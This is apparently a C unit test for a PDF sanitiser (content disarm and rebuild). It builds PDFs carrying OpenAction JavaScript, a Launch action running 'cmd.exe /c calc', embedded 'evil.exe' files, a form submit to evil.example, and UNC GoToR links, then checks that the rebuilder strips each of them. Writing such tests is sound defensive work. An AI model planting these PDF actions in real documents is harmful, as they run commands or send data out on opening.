/*
 * test_cdr_pdf - the PDF rebuilder (cdr_pdf.c) on PDFs written by this test
 * at run time: OpenAction JavaScript, Launch link, embedded file, page AA,
 * attachment annotation, XFA, the same hidden in object streams or
 * encrypted (qpdf's command line encrypts and expands them), corrupt and
 * over-budget files.  Each rebuilt file must pass `qpdf --check`, and its
 * uncompressed QDF form (`qpdf --qdf`) must lack the removed objects.
 */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <string.h>

#include <cmocka.h>

#include "cdrctx.h"
#include "cdr4b_util.h"
#include "mg_pipeline.h"

/* A minimal PDF: catalog 1, pages 2, one page 3 with content 4, then the
 * row's extra objects numbered from 5; a classic xref table. */
static GByteArray *pdf_build(const char *cat_extra, const char *page_extra, const char *const *extra)
{
	GByteArray *b = g_byte_array_new();
	GArray *offs = g_array_new(FALSE, FALSE, sizeof(gsize));
	GString *s = g_string_new("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
	const char *content = "0 0 m 100 100 l S\n";
	char *objs[4 + 8] = {0};
	int n = 0;

	objs[n++] = g_strdup_printf("<< /Type /Catalog /Pages 2 0 R %s >>", cat_extra ? cat_extra : "");
	objs[n++] = g_strdup("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
	objs[n++] = g_strdup_printf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R %s >>",
				    page_extra ? page_extra : "");
	objs[n++] = g_strdup_printf("<< /Length %zu >>\nstream\n%sendstream", strlen(content), content);
	for (int i = 0; extra && extra[i] && n < 12; i++)
		objs[n++] = g_strdup(extra[i]);
	for (int i = 0; i < n; i++) {
		gsize off = s->len;
		g_array_append_val(offs, off);
		g_string_append_printf(s, "%d 0 obj\n%s\nendobj\n", i + 1, objs[i]);
		g_free(objs[i]);
	}
	gsize xref = s->len;
	g_string_append_printf(s, "xref\n0 %d\n0000000000 65535 f \n", n + 1);
	for (int i = 0; i < n; i++)
		g_string_append_printf(s, "%010zu 00000 n \n", g_array_index(offs, gsize, i));
	g_string_append_printf(s, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%zu\n%%%%EOF\n", n + 1, xref);
	g_byte_array_append(b, (const guint8 *)s->str, (guint)s->len);
	g_string_free(s, TRUE);
	g_array_unref(offs);
	return b;
}

/* Run qpdf on a file: args are inserted before in and out. */
static GByteArray *qpdf_transform(struct cdr4b_ctx *c, GByteArray *pdf, const char *const *args)
{
	char *in = cdr4b_write(c, "pre-in.pdf", pdf->data, pdf->len);
	char *outp = g_build_filename(c->dir, "pre-out.pdf", NULL);
	char *argv[16] = {"qpdf"};
	int n = 1;
	for (int i = 0; args[i] && n < 12; i++)
		argv[n++] = (char *)args[i];
	if (strcmp(args[0], "--encrypt") == 0)
		argv[n++] = "--";
	argv[n++] = in;
	argv[n++] = outp;
	int rc = cdr4b_spawn(argv, NULL);
	assert_true(rc == 0 || rc == 3);
	char *data = NULL;
	gsize len = 0;
	assert_true(g_file_get_contents(outp, &data, &len, NULL));
	GByteArray *b = g_byte_array_new_take((guint8 *)data, len);
	g_free(in);
	g_free(outp);
	g_byte_array_unref(pdf);
	return b;
}

enum pre { PRE_NONE, PRE_OBJSTM, PRE_ENC_EMPTY, PRE_ENC_USER, PRE_RAW };

struct row {
	const char *name;
	const char *cat, *page;
	const char *extra[6];
	enum pre pre;
	const char *raw; /* PRE_RAW: the whole file */
	enum mg_cdr_status want;
	const char *want_removed[4];
	const char *absent[4];  /* not in the QDF form of the output */
	const char *present[3]; /* still there */
	const char *want_reason;
	gboolean damaged_ok; /* qpdf --check may warn (the input was damaged too) */
};

static const struct row rows[] = {
	{"openaction-js",
	 "/OpenAction 5 0 R",
	 NULL,
	 {"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"},
	 PRE_NONE,
	 NULL,
	 MG_CDR_REBUILT,
	 {"OpenAction removed", "JavaScript removed"},
	 {"/OpenAction", "/JavaScript", "app.alert"},
	 {"/MediaBox"}},
	{"launch-link",
	 NULL,
	 "/Annots [5 0 R]",
	 {"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Launch /F (cmd.exe) "
	  "/Win << /F (cmd.exe) /P (/c calc) >> >> >>"},
	 PRE_NONE,
	 NULL,
	 MG_CDR_REBUILT,
	 {"Launch action removed"},
	 {"/Launch", "cmd.exe"},
	 {"/Link"}},
	{"uri-link-kept",
	 NULL,
	 "/Annots [5 0 R]",
	 {"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://example.org/) >> >>"},
	 PRE_NONE,
	 NULL,
	 MG_CDR_REBUILT,
	 {NULL},
	 {"/JavaScript"},
	 {"/URI", "https://example.org/"}},
	{"uri-other-schemes",
	 NULL,
	 "/Annots [5 0 R 6 0 R 7 0 R]",
	 {"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>",
	  "<< /Type /Annot /Subtype /Link /Rect [0 9 9 18] /A << /S /URI /URI (  FILE://evil.example/share) >> >>",
	  "<< /Type /Annot /Subtype /Link /Rect [0 18 9 27] /A << /S /URI /URI (MAILTO:soumu@city.example.lg.jp) "
	  ">> >>"},
	 PRE_NONE,
	 NULL,
	 MG_CDR_REBUILT,
	 {"2 non-web link (URI) actions removed"},
	 {"javascript:", "evil.example"},
	 {"MAILTO:soumu@city.example.lg.jp"}},
	{"embedded-file",
	 "/Names << /EmbeddedFiles << /Names [(evil.exe) 5 0 R (b.txt) 7 0 R] >> >>",
	 NULL,
	 {"<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>",
	  "<< /Type /EmbeddedFile /Length 11 >>\nstream\nMZ-payload\nendstream",
	  "<< /Type /Filespec /F (b.txt) /EF << /F 6 0 R >> >>"},
	 PRE_NONE,
	 NULL,
	 MG_CDR_REBUILT,
	 {"2 embedded files removed"},
	 {"/EmbeddedFile", "evil.exe", "MZ-payload"}},
	{"page-aa-js",
	 NULL,
	 "/AA << /O << /S /JavaScript /JS (this.exportDataObject\\(\\)) >> >>",
	 {NULL},
	 PRE_NONE,
	 NULL,
	 MG_CDR_REBUILT,
	 {"additional-actions (AA) entry removed", "JavaScript removed"},
	 {"/AA", "exportDataObject"}},
	{"attachment-annot",
	 NULL,
	 "/Annots [5 0 R]",
	 {"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.vbs) "
	  "/EF << /F 6 0 R >> >> >>",
	  "<< /Type /EmbeddedFile /Length 12 >>\nstream\nWScript.Echo\nendstream"},
	 PRE_NONE,
	 NULL,
	 MG_CDR_REBUILT,
	 {"file attachment annotation removed"},
	 {"/FileAttachment", "a.vbs", "WScript"}},
	{"xfa-submit",
	 "/AcroForm << /Fields [5 0 R] /XFA 6 0 R /NeedsRendering true >>",
	 NULL,
	 {"<< /FT /Btn /T (send) /A << /S /SubmitForm /F (http://evil.example/) >> >>",
	  "<< /Length 14 >>\nstream\n<xdp:xdp/>   \nendstream"},
	 PRE_NONE,
	 NULL,
	 MG_CDR_REBUILT,
	 {"SubmitForm action removed", "XFA form removed"},
	 {"/XFA", "xdp:xdp", "/SubmitForm", "/NeedsRendering"},
	 {"/AcroForm"}},
	{"js-name-tree-gotor-outline",
	 "/Names << /JavaScript << /Names [(x) 5 0 R] >> >> /Outlines 6 0 R",
	 NULL,
	 {"<< /S /JavaScript /JS 8 0 R >>", "<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
	  "<< /Title (go) /Parent 6 0 R /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> >>",
	  "<< /Length 15 >>\nstream\nthis.print\\(\\);\nendstream"},
	 PRE_NONE,
	 NULL,
	 MG_CDR_REBUILT,
	 {"JavaScript removed", "GoToR (remote document) action removed"},
	 {"/GoToR", "this.print", "evil"},
	 {"/Outlines"}},
	{"objstm-openaction",
	 "/OpenAction 5 0 R",
	 NULL,
	 {"<< /S /Launch /F (calc.exe) >>"},
	 PRE_OBJSTM,
	 NULL,
	 MG_CDR_REBUILT,
	 {"OpenAction removed", "Launch action removed"},
	 {"/OpenAction", "calc.exe"}},
	{"encrypted-empty-user",
	 "/OpenAction 5 0 R",
	 NULL,
	 {"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"},
	 PRE_ENC_EMPTY,
	 NULL,
	 MG_CDR_REBUILT,
	 {"encryption removed (empty user password)", "OpenAction removed", "JavaScript removed"},
	 {"/Encrypt", "app.alert"}},
	{"encrypted-user",
	 NULL,
	 NULL,
	 {NULL},
	 PRE_ENC_USER,
	 NULL,
	 MG_CDR_UNSCANNABLE,
	 {NULL},
	 {NULL},
	 {NULL},
	 "encrypted"},
	/* No xref, no /Size, the action shared with /Pages (reduced from pdf.js
	 * issue15590): the action becomes null, so the page tree is missing. */
	{"no-xref-no-size",
	 NULL,
	 NULL,
	 {NULL},
	 PRE_RAW,
	 "%PDF-1.7\n\ntrailer\n<<\n/Root 1 0 R\n>>\n\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 2 0 R >>\n"
	 "endobj\n\n2 0 obj\n<< /S /JavaScript /JS(func=function(){app.alert(1)};func();) >>\nendobj\n\n%%EOF\n",
	 MG_CDR_REBUILT,
	 {"OpenAction removed", "2 JavaScript objects removed"},
	 {"/OpenAction", "app.alert"},
	 {NULL},
	 NULL,
	 TRUE},
	/* Loops: an action array that contains itself, a name tree whose kid is its parent. */
	{"loops",
	 "/OpenAction 5 0 R /Names << /EmbeddedFiles 7 0 R >>",
	 NULL,
	 {"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", "[6 0 R << /S /Launch /F (x.exe) >>]",
	  "<< /Kids [7 0 R 7 0 R] /Names [(a) 8 0 R] >>", "<< /Type /Filespec /F (a.exe) >>"},
	 PRE_NONE,
	 NULL,
	 MG_CDR_REBUILT,
	 {"OpenAction removed", "embedded file removed"},
	 {"/OpenAction", "/Launch", "a.exe"}},
	/* Objects behind keys no viewer reads still go (reduced from ClamAV's pdf-stats-test.pdf). */
	{"odd-keys",
	 "/Launch 5 0 R /EmbeddedFile 6 0 R /Extra << /Deep << /S /JavaScript /JS (evil\\(\\)) >> >>",
	 NULL,
	 {"<< /S /Launch /F (dummy.exe) >>", "<< /Type /EmbeddedFile /Length 10 >>\nstream\nHelloWorld\nendstream"},
	 PRE_NONE,
	 NULL,
	 MG_CDR_REBUILT,
	 {"Launch action removed", "embedded file removed", "JavaScript removed"},
	 {"dummy.exe", "HelloWorld", "evil"}},
	{"corrupt",
	 NULL,
	 NULL,
	 {NULL},
	 PRE_RAW,
	 "%PDF-1.4\n1 0 obj << /Type /Cat",
	 MG_CDR_UNSCANNABLE,
	 {NULL},
	 {NULL},
	 {NULL},
	 "corrupt"},
	{"not-pdf",
	 NULL,
	 NULL,
	 {NULL},
	 PRE_RAW,
	 "PK\x03\x04 this is no pdf at all",
	 MG_CDR_UNSCANNABLE,
	 {NULL},
	 {NULL},
	 {NULL},
	 "corrupt"},
};

/* The QDF (uncompressed, one object per block) form of a PDF. */
static char *qdf_of(struct cdr4b_ctx *c, const GByteArray *pdf, gsize *len)
{
	char *in = cdr4b_write(c, "out.pdf", pdf->data, pdf->len);
	char *qdf = g_build_filename(c->dir, "out.qdf", NULL);
	char *argv[] = {"qpdf", "--qdf", "--object-streams=disable", in, qdf, NULL};
	int rc = cdr4b_spawn(argv, NULL);
	assert_true(rc == 0 || rc == 3); /* 3: warnings (damaged_ok rows) */
	char *text = NULL;
	assert_true(g_file_get_contents(qdf, &text, len, NULL));
	g_free(in);
	g_free(qdf);
	return text;
}

static void check_output(struct cdr4b_ctx *c, const struct row *r, const struct mg_cdr_out *out)
{
	char *path = cdr4b_write(c, "check.pdf", out->data->data, out->data->len);
	char *argv[] = {"qpdf", "--check", path, NULL}, *report = NULL;
	int rc = cdr4b_spawn(argv, &report);
	if (rc != 0 && !(rc == 3 && r->damaged_ok))
		fail_msg("%s: qpdf --check exit %d: %s", r->name, rc, report);
	g_free(report);
	g_free(path);
	gsize len = 0;
	char *qdf = qdf_of(c, out->data, &len);
	for (int i = 0; i < 4 && r->absent[i]; i++)
		if (cdr4b_contains(qdf, len, r->absent[i]))
			fail_msg("%s: '%s' still in output", r->name, r->absent[i]);
	for (int i = 0; i < 3 && r->present[i]; i++)
		if (!cdr4b_contains(qdf, len, r->present[i]))
			fail_msg("%s: '%s' lost", r->name, r->present[i]);
	g_free(qdf);
	int want_n = 0;
	for (int i = 0; i < 4 && r->want_removed[i]; i++, want_n++)
		if (!cdr4b_removed_has(out, r->want_removed[i]))
			fail_msg("%s: removed[] lacks '%s'", r->name, r->want_removed[i]);
	assert_int_equal(out->removed->len, want_n);
}

static GByteArray *row_input(struct cdr4b_ctx *c, const struct row *r)
{
	static const char *const objstm[] = {"--object-streams=generate", NULL};
	static const char *const enc_empty[] = {"--encrypt", "", "owner", "256", NULL};
	static const char *const enc_user[] = {"--encrypt", "secret", "owner", "256", NULL};
	if (r->pre == PRE_RAW) {
		GByteArray *b = g_byte_array_new();
		return g_byte_array_append(b, (const guint8 *)r->raw, (guint)strlen(r->raw));
	}
	GByteArray *pdf = pdf_build(r->cat, r->page, r->extra);
	if (r->pre == PRE_OBJSTM)
		return qpdf_transform(c, pdf, objstm);
	if (r->pre == PRE_ENC_EMPTY)
		return qpdf_transform(c, pdf, enc_empty);
	if (r->pre == PRE_ENC_USER)
		return qpdf_transform(c, pdf, enc_user);
	return pdf;
}

static void test_rows(void **state)
{
	for (gsize i = 0; i < G_N_ELEMENTS(rows); i++) {
		const struct row *r = &rows[i];
		struct cdr4b_ctx c;
		struct mg_cdr_out out;
		cdr4b_setup(&c);
		mg_cdr_out_init(&out);
		GByteArray *in = row_input(&c, r);
		enum mg_cdr_status got = cdr4b_run(&c, mg_cdr_pdf, in->data, in->len, &out);
		if (got != r->want)
			fail_msg("%s: status %d, want %d (%s)", r->name, got, r->want, out.reason ? out.reason : "");
		if (got == MG_CDR_REBUILT)
			check_output(&c, r, &out);
		else
			assert_string_equal(out.reason, r->want_reason);
		if (got != MG_CDR_REBUILT)
			assert_null(out.data);
		g_byte_array_unref(in);
		mg_cdr_out_clear(&out);
		cdr4b_teardown(&c);
	}
}

/* The same input gives the same bytes (deterministic /ID), and a rebuilt
 * file rebuilt again has nothing more to remove. */
static void test_idempotent(void **state)
{
	struct cdr4b_ctx c;
	struct mg_cdr_out a, b;
	cdr4b_setup(&c);
	mg_cdr_out_init(&a);
	mg_cdr_out_init(&b);
	GByteArray *in = pdf_build("/OpenAction 5 0 R", NULL, rows[0].extra);
	assert_int_equal(cdr4b_run(&c, mg_cdr_pdf, in->data, in->len, &a), MG_CDR_REBUILT);
	assert_int_equal(cdr4b_run(&c, mg_cdr_pdf, in->data, in->len, &b), MG_CDR_REBUILT);
	assert_int_equal(a.data->len, b.data->len);
	assert_memory_equal(a.data->data, b.data->data, a.data->len);
	mg_cdr_out_clear(&b);
	mg_cdr_out_init(&b);
	assert_int_equal(cdr4b_run(&c, mg_cdr_pdf, a.data->data, a.data->len, &b), MG_CDR_REBUILT);
	assert_int_equal(b.removed->len, 0);
	g_byte_array_unref(in);
	mg_cdr_out_clear(&a);
	mg_cdr_out_clear(&b);
	cdr4b_teardown(&c);
}

/* Budgets: size and object count fail into unscannable. */
static void test_budgets(void **state)
{
	struct cdr4b_ctx c;
	struct mg_cdr_out out;
	const char *many[7] = {NULL};
	GString *arr = g_string_new("/Extra [");
	cdr4b_setup(&c);
	for (int i = 0; i < 6; i++) {
		many[i] = "<< /X [1 2 3] >>";
		g_string_append_printf(arr, " %d 0 R", 5 + i);
	}
	g_string_append(arr, " ]");
	GByteArray *in = pdf_build(arr->str, NULL, many);
	c.t.cfg->pdf_max_objects = 8; /* the file has 10 */
	mg_cdr_out_init(&out);
	assert_int_equal(cdr4b_run(&c, mg_cdr_pdf, in->data, in->len, &out), MG_CDR_UNSCANNABLE);
	assert_string_equal(out.reason, "too many objects");
	mg_cdr_out_clear(&out);
	/* A trailer that lies about /Size: the walk still counts. */
	char *size = memmem(in->data, in->len, "/Size 11", 8);
	assert_non_null(size);
	memcpy(size, "/Size 3 ", 8);
	mg_cdr_out_init(&out);
	assert_int_equal(cdr4b_run(&c, mg_cdr_pdf, in->data, in->len, &out), MG_CDR_UNSCANNABLE);
	assert_string_equal(out.reason, "too many objects");
	mg_cdr_out_clear(&out);
	c.t.cfg->pdf_max_objects = 100;
	mg_cdr_out_init(&out);
	assert_int_equal(cdr4b_run(&c, mg_cdr_pdf, in->data, in->len, &out), MG_CDR_REBUILT);
	mg_cdr_out_clear(&out);
	c.t.cfg->pdf_max_size = in->len - 1;
	mg_cdr_out_init(&out);
	assert_int_equal(cdr4b_run(&c, mg_cdr_pdf, in->data, in->len, &out), MG_CDR_UNSCANNABLE);
	assert_string_equal(out.reason, "larger than pdf_max_size");
	mg_cdr_out_clear(&out);
	/* A deadline already past. */
	c.t.cfg->pdf_max_size = 1024 * 1024;
	struct mg_cdr_in late = {.ctx = cdrctx(&c.t), .data = in->data, .len = in->len, .deadline_us = 1};
	mg_cdr_out_init(&out);
	assert_int_equal(mg_cdr_pdf(&late, &out), MG_CDR_UNSCANNABLE);
	assert_string_equal(out.reason, "time budget exceeded");
	mg_cdr_out_clear(&out);
	g_string_free(arr, TRUE);
	g_byte_array_unref(in);
	cdr4b_teardown(&c);
}

int main(void)
{
	mg_pipeline_global_init(); /* the stages' configuration hooks */
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rows),
		cmocka_unit_test(test_idempotent),
		cmocka_unit_test(test_budgets),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
